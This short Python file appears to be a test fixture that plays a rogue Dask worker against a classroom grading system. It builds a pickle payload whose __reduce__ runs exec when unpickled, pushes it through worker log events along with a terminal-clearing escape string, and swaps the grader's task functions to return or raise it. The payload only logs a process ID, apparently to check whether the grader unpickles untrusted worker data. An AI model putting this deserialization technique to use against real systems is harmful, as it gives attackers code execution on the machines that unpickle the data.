"""A worker of a cluster that somebody else has got hold of: `dask worker ADDRESS --preload rogue.py`.

What it sends would write the number of the process that unpickles it into $LOOT.
"""

import os
import pickle

from grader.classroom.grading import tasks

HOW = os.environ["ROGUE"]


class Payload:
    def __reduce__(self):
        return exec, (f"import os\nwith open({os.environ['LOOT']!r}, 'a') as loot: print(os.getpid(), file=loot)",)


class Loaded(Exception):
    def __reduce__(self):
        return Payload().__reduce__()


def spread() -> None:
    from distributed import get_worker

    message = pickle.dumps(Payload())
    get_worker().log_event("warn", {"message": message, "category": message})
    get_worker().log_event("print", {"args": ("\x1b[2Jmallory was here",)})


def rogue_task(text):
    spread()
    if HOW == "raises":
        raise Loaded
    return Payload()


def rogue_about():
    if HOW == "about raises":
        raise Loaded
    return Payload()


tasks.grade_task = rogue_task
if HOW.startswith("about"):
    tasks.about = rogue_about
